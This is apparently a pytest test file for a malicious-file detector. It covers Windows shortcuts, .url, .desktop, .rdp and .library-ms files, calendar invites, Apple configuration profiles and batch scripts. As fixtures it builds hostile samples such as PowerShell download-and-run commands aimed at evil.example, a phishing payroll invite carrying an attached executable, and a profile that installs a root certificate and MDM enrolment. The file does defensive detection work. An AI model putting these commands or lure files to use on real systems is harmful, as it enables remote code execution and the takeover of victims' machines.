"""Shortcuts, invitations, profiles and scripts."""

from __future__ import annotations

import base64
import plistlib

import pytest

from hostile import programs
from hostile.looking import look


def test_what_a_shortcut_starts_is_told() -> None:
    data = programs.shortcut(
        "..\\..\\powershell.exe", "-w hidden -c iwr https://evil.example/a|iex", icon="\\\\evil.example\\i\\a.ico"
    )
    looked = look(data, "invoice.pdf.lnk")
    assert "powershell.exe -w hidden" in looked.values("shortcut-runs")["command"]
    assert {"name-hides-ending", "script-downloads", "script-hides", "shortcut-leads-to-share"} <= looked.kinds
    assert "https://evil.example/a" in " ".join(looked.targets)
    blanks = look(programs.shortcut("cmd.exe", "x" + " " * 300 + "/c calc"), "a.lnk")
    assert "shortcut-hides-arguments" in blanks.kinds


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (b"[InternetShortcut]\r\nURL=https://a.example/x\r\n", "a.url", "shortcut-leads"),
        (b"[InternetShortcut]\r\nURL=file://a.example@80/x/y.exe\r\n", "a.url", "shortcut-leads-to-share"),
        (b"[InternetShortcut]\r\nURL=x\r\nIconFile=\\\\a.example\\x\\y.ico\r\n", "a.url", "shortcut-leads-to-share"),
        (b"[Desktop Entry]\nExec=sh -c 'curl a.example'\n", "a.desktop", "shortcut-runs"),
        (
            b'<?xml version="1.0"?><libraryDescription><url>\\\\a.example\\share</url></libraryDescription>',
            "a.library-ms",
            "shortcut-leads-to-share",
        ),
        (
            b'<?xml version="1.0"?><PCSettings><DeepLink>cmd.exe /c calc</DeepLink></PCSettings>',
            "a.settingcontent-ms",
            "shortcut-runs",
        ),
        (
            b"full address:s:a.example\r\ndrivestoredirect:s:*\r\nprompt for credentials:i:0\r\n",
            "a.rdp",
            "remote-desktop-shares",
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_small_files_that_point_somewhere_are_told(data: bytes, name: str, kind: str) -> None:
    assert kind in look(data, name).kinds


def test_an_invitation_says_who_and_where() -> None:
    carried = base64.b64encode(programs.PE).decode()
    data = (
        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll\\, update\r\n"
        'ORGANIZER;CN="HR: Team":mailto:hr@evil.example\r\n'
        "DESCRIPTION:Sign in at https://evil.exa\r\n mple/login now\r\n"
        f"ATTACH;ENCODING=BASE64;VALUE=BINARY;FILENAME=plan.exe:{carried}\r\n"
        "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    ).encode()
    looked = look(data, "invite.ics", "text/calendar; charset=utf-8")
    said = looked.values("calendar-invitation")
    assert (said["method"], said["organiser"], said["summary"]) == ("REQUEST", "hr@evil.example", "Payroll, update")
    assert looked.targets == {"https://evil.example/login"}
    assert looked.inside == {"plan.exe": programs.PE}
    assert "calendar-alarm-acts" in looked.kinds


@pytest.mark.parametrize("form", [plistlib.FMT_XML, plistlib.FMT_BINARY])
def test_a_profile_says_what_it_would_change(form: plistlib.PlistFormat) -> None:
    payloads = [
        {"PayloadType": "com.apple.security.root"},
        {"PayloadType": "com.apple.mdm", "ServerURL": "https://evil.example/mdm"},
    ]
    data = plistlib.dumps({"PayloadContent": payloads, "PayloadOrganization": "IT Support"}, fmt=form)
    looked = look(data, "wifi.mobileconfig")
    assert {"profile", "profile-root-certificate", "profile-management", "profile-unsigned"} <= looked.kinds
    assert looked.targets == {"https://evil.example/mdm"}
    signed = b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80" + data + bytes(50)
    if form is plistlib.FMT_XML:
        envelope = look(signed, "wifi.mobileconfig")
        assert "profile-signed" in envelope.kinds
        assert plistlib.loads(next(iter(envelope.inside.values())))["PayloadOrganization"] == "IT Support"


def test_an_encoded_command_is_decoded_as_text() -> None:
    hidden = "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/p')"
    digits = base64.b64encode(hidden.encode("utf-16-le")).decode()
    looked = look(f"power^shell -enc {digits}".encode(), "a.bat")
    assert looked.values("script-encoded")["text"].startswith("IEX")
    assert {"script-fetches-and-runs", "script-runs-text", "script-runs-programs"} <= looked.kinds
    assert "https://evil.example/p" in looked.targets


def test_plain_words_are_only_words() -> None:
    looked = look(b"Please use PowerShell to evaluate (eval) the result, see https://a.example\n", "notes.txt")
    assert looked.kinds == set()
    assert "PowerShell" in looked.inspection.text


def test_an_address_card_says_where_it_leads() -> None:
    assert look(b"BEGIN:VCARD\r\nFN:A\r\nURL:https://a.example/\r\nEND:VCARD\r\n", "a.vcf").targets == {
        "https://a.example/"
    }
